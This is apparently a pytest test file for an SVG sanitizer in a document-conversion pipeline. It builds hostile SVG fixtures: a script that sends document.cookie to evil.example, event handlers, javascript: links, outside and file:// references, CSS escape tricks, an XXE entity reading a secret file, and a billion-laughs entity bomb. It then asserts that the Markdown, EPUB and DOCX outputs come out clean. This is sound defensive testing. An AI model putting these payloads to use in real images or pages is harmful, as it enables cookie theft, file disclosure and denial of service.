"""SVG pictures are sanitized once, in the image step, and every output carries the
clean picture: the Markdown writer's assets, the EPUB's members, the DOCX's PNG.

The hostile pictures are written by the test: a script, event handlers, outside
references on <image>, <use>, <a>, <feImage> and in CSS, <foreignObject>, an
external entity (XXE) pointing at a secret file, and a billion-laughs entity bomb."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from lxml import etree
from test_epub import epubcheck, problems

from pipeline.assets.svg import SVG_NS, SvgError, sanitize_svg

SECRET = "SECRET-7f3a9c-never-in-an-output"
HOSTILE_SVG = """<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="120" height="60" onload="alert(1)">
  <script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
  <style>@import url(https://evil.example/x.css); rect {{ fill: url(https://evil.example/p.svg#g) }}
    .local {{ fill: url(#grad) }}</style>
  <defs><linearGradient id="grad"><stop offset="0" stop-color="#36c"/></linearGradient></defs>
  <rect class="local" width="120" height="60" onclick="alert(2)" onmouseover="alert(3)"/>
  <image href="/etc/passwd" width="5" height="5"/>
  <image xlink:href="https://evil.example/track.png" width="5" height="5"/>
  <image href="data:image/png;base64,{png}" width="5" height="5"/>
  <use href="https://evil.example/sprites.svg#icon"/>
  <use xlink:href="#shape"/>
  <a href="https://evil.example/"><text id="shape" x="4" y="40">Chart</text></a>
  <a xlink:href="javascript:alert(4)"><text x="60" y="40">here</text></a>
  <filter id="f"><feImage href="file:///etc/hosts"/></filter>
  <circle cx="10" cy="10" r="5" style="fill: url('https://evil.example/f.svg#p')" filter="url(https://evil.example/f.svg#x)"/>
  <set attributeName="href" to="javascript:alert(5)"/>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">
    <iframe src="https://evil.example/"></iframe></div></foreignObject>
</svg>
"""
PNG_1PX = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def xxe_svg(secret: Path) -> str:
    return f"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>
<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40"><text x="4" y="30">Hello &xxe;</text></svg>
"""


def billion_laughs() -> str:
    lines = ['<?xml version="1.0"?>', "<!DOCTYPE svg [", '<!ENTITY lol "lol">']
    for i in range(1, 10):
        prev = "lol" if i == 1 else f"lol{i - 1}"
        lines.append(f'<!ENTITY lol{i} "{("&" + prev + ";") * 10}">')
    lines += [
        "]>",
        '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20">'
        '<text x="1" y="15">&lol9;</text></svg>',
    ]
    return "\n".join(lines)


def assert_clean_svg(data: bytes) -> None:
    """Nothing active, nothing outside, no entity or DTD in an SVG."""
    assert b"<!DOCTYPE" not in data and b"<!ENTITY" not in data
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    root = etree.fromstring(data, parser)
    for node in root.iter():
        assert not isinstance(node, etree._Entity), node
        if not isinstance(node.tag, str):
            continue
        name = etree.QName(node)
        assert name.namespace == SVG_NS and name.localname not in ("script", "foreignObject"), name
        for key, value in node.attrib.items():
            local = etree.QName(key).localname
            assert not local.lower().startswith("on"), (name.localname, key)
            if local == "href":
                assert value.startswith("#") or value.startswith("data:image/png"), value
            for target in re.findall(r"url\(\s*['\"]?([^)'\"]*)", value):
                assert target.startswith("#"), value
        if name.localname == "style":
            css = node.text or ""
            assert "@import" not in css
            assert all(t.startswith("#") for t in re.findall(r"url\(\s*['\"]?([^)'\"]*)", css)), css
        if name.localname in ("set", "animate"):
            assert "href" not in (node.get("attributeName") or "")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("svg-in")
    secret = folder.parent / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    (folder / "chart.svg").write_text(HOSTILE_SVG.format(png=PNG_1PX), encoding="utf-8")
    (folder / "xxe.svg").write_text(xxe_svg(secret), encoding="utf-8")
    (folder / "lol.svg").write_text(billion_laughs(), encoding="utf-8")
    inline = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="alert(6)">'
        '<circle cx="10" cy="10" r="9"/><script>alert(7)</script></svg>'
    )
    from urllib.parse import quote

    (folder / "art.md").write_text(
        "---\ntitle: Pictures\nlang: en\n---\n\n"
        "The chart: ![chart](chart.svg)\n\n"
        "A greeting: ![greeting](xxe.svg)\n\n"
        "Laughs: ![laughs](lol.svg)\n\n"
        f"Inline: ![dot](data:image/svg+xml,{quote(inline)})\n",
        encoding="utf-8",
    )
    return folder


def convert(folder: Path, out: Path, formats: str) -> dict:
    run = subprocess.run(
        [sys.executable, "-m", "pipeline.cli", "convert", str(folder), "-o", str(out), "--to", formats, "-q"],
        capture_output=True,
        text=True,
    )
    assert run.returncode == 0, run.stderr
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    return report["files"][0]


def every_byte(out: Path) -> list[tuple[str, bytes]]:
    """Every output file, and every member of every zip (EPUB, DOCX), decompressed."""
    found = []
    for path in sorted(out.rglob("*")):
        if not path.is_file() or path.name.startswith("."):
            continue
        data = path.read_bytes()
        found.append((str(path), data))
        if path.suffix in (".epub", ".docx"):
            with zipfile.ZipFile(path) as z:
                found += [(f"{path}!{n}", z.read(n)) for n in z.namelist()]
    return found


def test_svg_kept_as_svg_is_clean_in_markdown_assets_and_epub(hostile, tmp_path, java):
    out = tmp_path / "out"
    record = convert(hostile, out, "md,epub")
    images = {r["ref"][:20]: r for r in record["images"]}
    # the report says what really happened to each picture
    assert images["chart.svg"]["outcome"] == "embedded"
    note = " ".join(images["chart.svg"]["processing"])
    for kind in (
        "script",
        "event handler",
        "outside reference",
        "css url",
        "css @import",
        "foreignObject",
        "animated reference",
    ):
        assert kind in note, (kind, note)
    assert images["xxe.svg"]["outcome"] == "embedded"
    assert "entity reference" in " ".join(images["xxe.svg"]["processing"])
    assert images["lol.svg"]["outcome"] == "refused" and "entity bomb" in images["lol.svg"]["reason"]
    assert any("&xxe;" in w for w in record["warnings"])
    assert any("lol.svg" in w and "entity bomb" in w for w in record["warnings"])

    assets = sorted((out / "art_assets").glob("*.svg"))
    assert len(assets) == 3  # chart, greeting, inline; not the bomb
    for path in assets:
        assert_clean_svg(path.read_bytes())
    with zipfile.ZipFile(out / "art.epub") as z:
        members = [n for n in z.namelist() if n.endswith(".svg")]
        assert len(members) == 3
        for name in members:
            assert_clean_svg(z.read(name))
        # the bytes the book carries are the ones the Markdown folder got
        assert sorted(z.read(n) for n in members) == sorted(p.read_bytes() for p in assets)
        chapter = "".join(z.read(n).decode() for n in z.namelist() if n.endswith(".xhtml"))
    assert "image-placeholder" in chapter  # the refused bomb shows as a placeholder
    for where, data in every_byte(out):
        assert b"evil.example" not in data and SECRET.encode() not in data, where
        assert b"lol9" not in data and b"alert(" not in data, where
    assert problems(epubcheck(out / "art.epub", java)) == []


def test_svg_drawn_for_docx_is_drawn_from_the_clean_svg(hostile, tmp_path, java):
    out = tmp_path / "out"
    record = convert(hostile, out, "md,epub,docx")
    images = {r["ref"][:20]: r for r in record["images"]}
    assert images["chart.svg"]["processing"][-1].startswith("svg rasterized") or any(
        "svg rasterized" in n for n in images["chart.svg"]["processing"]
    )
    assert "svg sanitized" in images["chart.svg"]["processing"][0]
    assert images["lol.svg"]["outcome"] == "refused"
    with zipfile.ZipFile(out / "art.docx") as z:
        media = [n for n in z.namelist() if n.startswith("word/media/")]
    assert len(media) == 3 and all(n.endswith((".png", ".jpeg", ".jpg")) for n in media)
    for where, data in every_byte(out):
        assert b"evil.example" not in data and SECRET.encode() not in data, where
    assert problems(epubcheck(out / "art.epub", java)) == []


# -- the sanitizer on its own -------------------------------------------------------------------
def test_sanitizing_twice_changes_nothing():
    once = sanitize_svg(HOSTILE_SVG.format(png=PNG_1PX).encode())
    twice = sanitize_svg(once.data)
    assert twice.data == once.data and not twice.removed


def test_what_belongs_to_the_picture_stays():
    clean = sanitize_svg(HOSTILE_SVG.format(png=PNG_1PX).encode())
    root = etree.fromstring(clean.data)
    ns = {"s": SVG_NS}
    xlink = {**ns, "xlink": "http://www.w3.org/1999/xlink"}
    assert root.xpath("//s:use/@xlink:href", namespaces=xlink) == ["#shape"]
    assert [t.text for t in root.xpath("//s:text", namespaces=ns)] == ["Chart", "here"]
    assert len(root.xpath("//s:image", namespaces=ns)) == 1  # the embedded picture
    assert "url(#grad)" in root.xpath("//s:style", namespaces=ns)[0].text
    assert root.xpath("//s:linearGradient/@id", namespaces=ns) == ["grad"]
    assert (clean.width, clean.height) == (120, 60)


def test_plain_internal_entities_are_written_out():
    """Illustrator writes its namespaces as entities; such a picture is not refused."""
    data = b"""<?xml version="1.0"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY st0 "fill:#f00;"><!ENTITY name "Sales">]>
<svg xmlns="&ns_svg;" width="10" height="10"><rect style="&st0;" width="5"
 height="5"/><text>&name; 2024</text></svg>"""
    clean = sanitize_svg(data)
    assert b"&" not in clean.data and b"<!DOCTYPE" not in clean.data
    assert b'style="fill:#f00;"' in clean.data and b"<text>Sales 2024</text>" in clean.data
    assert not clean.entities


def test_css_escapes_cannot_spell_an_outside_url():
    data = (
        b'<svg xmlns="http://www.w3.org/2000/svg"><style>rect { fill: \\75 rl(https://evil.example/a) }'
        b' @\\69mport "https://evil.example/b.css";</style>'
        b'<rect style="background: u\\72l(//evil.example/c)" xml:base="https://evil.example/"/></svg>'
    )
    clean = sanitize_svg(data)
    assert b"evil.example" not in clean.data
    assert clean.removed["css url"] == 2 and clean.removed["css @import"] == 1


def test_an_svg_without_its_namespace_is_read_as_svg():
    clean = sanitize_svg(b'<svg width="4" height="4"><script>x()</script><rect width="4" height="4"/></svg>')
    root = etree.fromstring(clean.data)
    assert root.tag == f"{{{SVG_NS}}}svg" and len(root) == 1 and clean.removed["script"] == 1


@pytest.mark.parametrize(
    "data, refused",
    [
        (b"<html><body>x</body></html>", False),
        (b"not xml at all", False),
        (billion_laughs().encode(), True),
    ],
)
def test_what_cannot_be_carried_is_refused_or_failed(data, refused):
    with pytest.raises(SvgError) as info:
        sanitize_svg(data)
    assert info.value.refused is refused


def test_epub_packaging_sanitizes_an_svg_from_anywhere():
    from pipeline.document import Asset
    from pipeline.writers.epub.images import packaged

    raw = HOSTILE_SVG.format(png=PNG_1PX).encode()
    data = packaged(Asset("img-x.svg", "image/svg+xml", raw))
    assert data is not None
    assert_clean_svg(data)
    assert packaged(Asset("img-y.svg", "image/svg+xml", billion_laughs().encode())) is None
